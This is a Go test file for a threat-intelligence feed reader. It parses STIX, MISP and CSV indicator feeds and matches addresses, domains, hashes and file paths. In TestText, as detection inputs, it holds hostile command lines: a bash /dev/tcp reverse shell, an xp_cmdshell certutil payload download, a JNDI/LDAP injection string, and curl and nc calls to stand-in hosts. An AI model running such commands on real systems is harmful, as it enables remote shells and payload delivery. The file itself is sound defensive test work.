package feed_test

import (
	"bytes"
	"compress/gzip"
	"errors"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"spoor/triage"
	"spoor/triage/intel/feed"
)

const (
	hash = "0123456789abcdef0123456789abcdef"
	stix = `{"type":"bundle","objects":[{"type":"identity","id":"identity--1","name":"A CERT"},{"type":"intrusion-set","id":"intrusion-set--1","name":"Some Group"},
{"type":"indicator","id":"indicator--1","name":"two","created_by_ref":"identity--1","confidence":75,"valid_from":"2025-01-01","pattern":"[ipv4-addr:value = '198.51.100.7'] OR [file:hashes.'SHA-256' = '` + hash + hash + `']"},
{"type":"indicator","id":"indicator--2","pattern_type":"yara","pattern":"rule x"},
{"type":"relationship","relationship_type":"indicates","source_ref":"indicator--1","target_ref":"intrusion-set--1"}]}`
	misp = `{"Event":{"info":"a case","date":"2025-02-03","Orgc":{"name":"A team"},"Attribute":[{"type":"ip-dst","value":"198.51.100.8","to_ids":true},
{"type":"domain","value":"no.example","to_ids":false},{"type":"filename|md5","value":"x.php|` + hash + `"},{"type":"comment","value":"?"}],
"Galaxy":[{"type":"mitre-intrusion-set","GalaxyCluster":[{"value":"Some Group - G9999"}]}]}}`
	csv = "type,value,actor,confidence,source,date\nip,198.51.100[.]7,Some Group,80,A vendor,2025-01-01\ncidr,203.0.113.0/24,,B2,,\nfilename,a b.php,,high,,\nyara,x,,,,\nmd5,zz,,,,\n"
)

func TestRead(t *testing.T) {
	for _, c := range []struct {
		name, text, format string
		want               string // "kind value actor grade source" of the first
		n, skipped         int
	}{
		{"STIX", stix, "STIX indicators", "address 198.51.100.7 Some Group ?2 A CERT", 2, 1},
		{"MISP", misp, "MISP event", "address 198.51.100.8 Some Group  A team", 2, 1},
		{"CSV", csv, "CSV of indicators", "address 198.51.100.7 Some Group ?2 A vendor", 3, 2},
		{"CSV with a mark", "\xef\xbb\xbf" + csv, "CSV of indicators", "address 198.51.100.7 Some Group ?2 A vendor", 3, 2},
		{"hashes", "# comment\n" + strings.ToUpper(hash) + ";what it is\n\n", "list of hashes", "hash " + hash + "   ", 1, 0},
		{"addresses", "198.51.100.7\n2001:db8::1 # six\n203.0.113.0/24,net\n", "list of addresses and others", "address 198.51.100.7   ", 3, 0},
		{"domains", "hxxp://a.example/x\nb[.]example\nc.example.\n", "list of domains and others", "url http://a.example/x   ", 3, 0},
		{"names", "# from a case\n(?i)\\\\up\\.php$;70\n[;]x;80;ok\\.txt\n(?=no);70\n", "list of file names", `name (?i)\\up\.php$   `, 2, 1},
	} {
		f, err := feed.Read([]byte(c.text))
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		x := f.Indicators[0]
		got := strings.Join([]string{string(x.Kind), x.Value, x.Actor, x.Grade, x.Source}, " ")
		if f.Format != c.format || got != c.want || len(f.Indicators) != c.n || f.Skipped != c.skipped {
			t.Errorf("%s: %s, %q, %d and %d skipped (%v); want %s, %q, %d and %d", c.name, f.Format, got, len(f.Indicators), f.Skipped, f.Rejects, c.format, c.want, c.n, c.skipped)
		}
		var packed bytes.Buffer
		z := gzip.NewWriter(&packed)
		z.Write([]byte(c.text))
		z.Close()
		if g, err := feed.Read(packed.Bytes()); err != nil || len(g.Indicators) != c.n {
			t.Errorf("%s, packed: %v", c.name, err)
		}
	}
}

func TestRefuse(t *testing.T) {
	var knowledge *feed.KnowledgeError
	if _, err := feed.Read([]byte(`{"values":[{"value":"x"}]}`)); !errors.As(err, &knowledge) || knowledge.Format != feed.Galaxy {
		t.Error(err)
	}
	if _, err := feed.Read([]byte(`{"type":"bundle","objects":[{"type":"tool","external_references":[{"source_name":"mitre-attack"}]}]}`)); !errors.As(err, &knowledge) || knowledge.Format != feed.ATTACK {
		t.Error(err)
	}
	for name, text := range map[string]string{
		"empty": " \n", "prose": "This is a text.\nIt goes on.\n", "binary": "MZ\x00\x01", "JSON": `{"a":1}`, "broken JSON": `{"type":"bundle"`,
		"an array of numbers": "[1,2,3]", "a CSV of nothing": "type,value\nyara,x\n", "every name": ".*;70\n", "everybody": "0.0.0.0/0\n", "the empty file": "d41d8cd98f00b204e9800998ecf8427e\n",
		"a slow expression": "((a{100}){100}){100};70\n", "deep JSON": strings.Repeat("[", 20000),
	} {
		if f, err := feed.Read([]byte(text)); !errors.Is(err, feed.ErrUnknown) {
			t.Errorf("%s: %+v, %v", name, f, err)
		}
	}
}

func TestMatch(t *testing.T) {
	m, left := feed.NewMatcher([]feed.Indicator{
		{Kind: feed.Address, Value: "198.51.100.7"}, {Kind: feed.Network, Value: "203.0.113.0/24"}, {Kind: feed.Network, Value: "2001:db8::/32"},
		{Kind: feed.Domain, Value: "bad.example"}, {Kind: feed.Hash, Value: hash},
		{Kind: feed.Name, Value: `(?i)\\images\\[a-z]+\.php$`, Exclude: "known"}, {Kind: feed.URL, Value: "http://bad.example/x.txt"},
	})
	if left != 0 {
		t.Error(left)
	}
	for _, c := range []struct {
		what string
		got  []*feed.Indicator
		n    int
	}{
		{"the address", m.Client("198.51.100.7"), 1}, {"as IPv6", m.Client("::ffff:198.51.100.7"), 1}, {"the next", m.Client("198.51.100.70"), 0},
		{"in the network", m.Client("203.0.113.250"), 1}, {"beside it", m.Client("203.0.114.1"), 0}, {"IPv6", m.Client("2001:db8:1::9"), 1},
		{"the domain", m.Host("BAD.example."), 1}, {"under it", m.Host("a.b.bad.example:8080"), 1}, {"ends alike", m.Host("notbad.example"), 0},
		{"a client by name", m.Client("x.bad.example"), 1}, {"hash", m.Hash(strings.ToUpper(hash)), 1},
		{"path", m.Path("/srv/images/up.php"), 1}, {"excluded", m.Path("/known/images/up.php"), 0}, {"another", m.Path("/srv/images/up.jpg"), 0},
	} {
		if len(c.got) != c.n {
			t.Errorf("%s: %d, want %d", c.what, len(c.got), c.n)
		}
	}
	if in := (&feed.Indicator{Grade: "?2"}); in.Graded("B3") != "B2" || (&feed.Indicator{}).Graded("B3") != "B3" || (&feed.Indicator{Grade: "A1"}).Graded("F6") != "A1" {
		t.Error("grades")
	}
}

// What stands in queries, command lines, agents and bodies, each with the indicators that it holds.
func TestText(t *testing.T) {
	const sum = "00112233445566778899aabbccddeeff"
	m, _ := feed.NewMatcher([]feed.Indicator{
		{Kind: feed.Address, Value: "198.51.100.7"}, {Kind: feed.Network, Value: "203.0.113.0/24"}, {Kind: feed.Address, Value: "2001:db8::7"},
		{Kind: feed.Domain, Value: "bad.example"}, {Kind: feed.Domain, Value: "drop.sh"}, {Kind: feed.Hash, Value: sum},
		{Kind: feed.URL, Value: "http://files.example/a/x.txt"}, {Kind: feed.URL, Value: "https://198.51.100.9:8443/y?z=1"}, {Kind: feed.URL, Value: "http://root.example/"},
		{Kind: feed.Name, Value: `(?i)\\temp\\dump[0-9]\.exe$`},
	})
	for _, c := range []struct {
		text     string
		versions bool
		want     string // matches, separated by spaces
	}{
		// Requests for what lies elsewhere, as an argument and inside a path.
		{"/?url=http://cdn.bad.example/latest/meta", false, "cdn.bad.example"},
		{"/fetch/BAD.example/x?u=bad.example.", false, "BAD.example bad.example"},
		{"page=http://files.example/a/x.txt?", false, "files.example/a/x.txt"}, {"page=http://files.example:80/a/x.txt", false, "files.example:80/a/x.txt"},
		{"page=http://files.example/a/x.txt2", false, ""}, {"page=http://files.example/b", false, ""}, {"http://root.example:8080/anything", false, "root.example:8080"},
		{"https://198.51.100.9:8443/y?z=1&w", false, "198.51.100.9:8443/y?z=1"}, {"https://198.51.100.9:8444/y?z=1", false, ""}, {"https://198.51.100.9/y?z=1", false, "198.51.100.9/y?z=1"},
		{"notbad.example bad.example.org xbad.example", false, ""},
		// What commands fetch and connect to.
		{"exec master..xp_cmdshell 'certutil -urlcache -f http://203.0.113.9/a.exe c:\\temp\\a.exe'", false, "203.0.113.9"},
		{"bash -i >& /dev/tcp/198.51.100.7/443 0>&1", false, "198.51.100.7"}, {`net use \\198.51.100.7\c$`, false, "198.51.100.7"},
		{"ping 198.51.100.70 1198.51.100.7", false, ""}, {"nc 2001:db8::7 443; nc [2001:DB8:0::7]:443", false, "2001:db8::7 2001:DB8:0::7"},
		{"copy " + strings.ToUpper(sum), false, strings.ToUpper(sum)},
		// Agents hold versions; endings of files are no domains unless a host stands there.
		{"Mozilla/5.0 Chrome/203.0.113.0 Safari", true, ""}, {"${jndi:ldap://203.0.113.5/a}", true, "203.0.113.5"}, {"Mozilla/5.0 (+http://bad.example)", true, "bad.example"},
		{"sh drop.sh; chmod +x ./drop.sh", false, ""}, {"curl http://drop.sh/x", false, "drop.sh"},
		{strings.Repeat("a.", 40000) + "bad.example", false, ""},
	} {
		var got []string
		for _, h := range m.Text(c.text, c.versions) {
			got = append(got, h.Match)
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%.80q: %q, want %q", c.text, got, c.want)
		}
	}
	if got := m.Words(`cmd /c "C:\Windows\Temp\dump1.exe" /q >c:\temp\dump12.exe`); len(got) != 1 || got[0].Match != `C:\Windows\Temp\dump1.exe` {
		t.Errorf("words: %+v", got)
	}
}

// The shared lists are read nearly whole.
func TestSharedLists(t *testing.T) {
	for name, least := range map[string]int{"signature-base_hash-iocs.txt.gz": 3200, "signature-base_filename-iocs.txt.gz": 3800} {
		b, err := os.ReadFile(filepath.Join("../../../../shared/data/hashes", name))
		if err != nil {
			t.Skip("shared evidence is not here")
		}
		f, err := feed.Read(b)
		if err != nil || len(f.Indicators) < least || f.Skipped*100 > len(f.Indicators) {
			t.Errorf("%s: %v, %+v", name, err, f)
		}
	}
}

var (
	plainHost = regexp.MustCompile(`^[a-z0-9]+\.[a-z0-9]+$`)
	paths     = []string{"/srv/images/up.php", `C:\Temp\A B.exe`, "/KELVIN/\u212A.php", "x", "/a/b.php", "A.EXAMPLE"}
)

// The laws of Read: what comes out is bounded and well formed, can be matched, alone as among others, in a text as by
// itself, and its rejects are safe to draw.
func FuzzRead(f *testing.F) {
	for _, s := range []string{stix, misp, csv, hash + ";x\n", "a.example\n", `\\x\.php;70;y`, "[[[", "{\"Event\":{}}"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) > 1<<16 {
			return
		}
		x, err := feed.Read(b)
		if err != nil {
			return
		}
		if len(x.Indicators) == 0 || len(x.Indicators) > feed.MaxIndicators {
			t.Fatalf("%d indicators", len(x.Indicators))
		}
		for _, r := range x.Rejects {
			if r.Reason != triage.Visible(r.Reason) || len(r.Text) > triage.MaxRejectText {
				t.Fatalf("reject %+v", r)
			}
		}
		m, _ := feed.NewMatcher(x.Indicators)
		for _, in := range x.Indicators {
			found := 1
			switch in.Kind {
			case feed.Hash:
				found = len(m.Hash(in.Value))
			case feed.Address:
				found = len(m.Client(in.Value))
			case feed.Domain:
				found = len(m.Host(in.Value))
				found = min(found, len(m.Text("get http://"+in.Value+"/x;", true)))
			case feed.URL:
				if u, err := url.Parse(in.Value); err == nil && plainHost.MatchString(u.Host) && u.Fragment == "" && len(x.Indicators) < 20 {
					found = len(m.Text("get "+in.Value+" -o x", true))
				}
			case feed.Name:
				for _, p := range paths {
					if slow, fast := in.Fits(p), slices.ContainsFunc(m.Path(p), func(i *feed.Indicator) bool { return *i == in }); slow != fast {
						t.Fatalf("%q fits %q: %v one by one, %v among all", in.Value, p, slow, fast)
					}
				}
			case feed.Network:
			default:
				t.Fatalf("kind %q", in.Kind)
			}
			if found == 0 {
				t.Fatalf("%+v does not fit itself", in)
			}
		}
	})
}
